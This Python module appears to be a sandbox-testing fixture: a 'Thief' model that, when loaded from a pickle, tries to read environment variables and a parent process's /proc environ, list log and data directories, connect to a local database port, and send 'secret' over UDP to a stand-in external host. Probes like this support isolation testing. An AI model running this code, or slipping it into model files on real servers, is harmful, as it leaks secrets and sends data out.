"""Runs where a pickle is loaded (see `make_models.Thief`): what it can learn there of the server."""

import os
import socket


def attempt(what):
    """What it gives, or how it is refused."""
    try:
        return what()
    except OSError as error:
        return type(error).__name__


def read(path):
    with open(path) as stream:
        return stream.read()


def connect():
    socket.create_connection(("127.0.0.1", 5432), timeout=2).close()
    return "connected"


def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as away:
        return away.sendto(b"secret", ("203.0.113.1", 53))


ABOVE = os.path.dirname(os.path.dirname(os.path.dirname(os.getcwd())))
FOUND = {
    "environ": sorted(os.environ),
    "parent": attempt(lambda: read(f"/proc/{os.getppid()}/environ")),
    "logs": attempt(lambda: os.listdir(os.path.join(ABOVE, "logs"))),
    "data": attempt(lambda: os.listdir(ABOVE)),
    "tcp": attempt(connect),
    "udp": attempt(send),
}


class Thief:
    def predict(self, rows):
        return [FOUND]


thief = Thief()
